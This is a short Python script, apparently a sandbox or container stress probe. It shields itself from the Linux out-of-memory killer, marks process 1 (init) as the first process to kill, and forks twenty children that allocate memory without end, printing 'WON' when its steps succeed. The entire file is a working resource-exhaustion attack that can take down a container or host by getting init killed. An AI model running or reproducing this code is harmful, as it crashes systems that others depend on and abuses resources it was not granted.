# Makes itself the last to be ended when memory runs out, and many small processes besides: process 1 is to die instead.
import os

try:
    with open("/proc/self/oom_score_adj", "w") as rank:
        rank.write("0")
    print("WON: ranked lower")
except OSError:
    pass
try:
    with open("/proc/1/oom_score_adj", "w") as rank:
        rank.write("1000")
    print("WON: process 1 ranked higher")
except OSError:
    pass
for _ in range(20):
    if os.fork() == 0:
        hoard = []
        while True:
            hoard.append(bytearray(1_000_000))
os.wait()
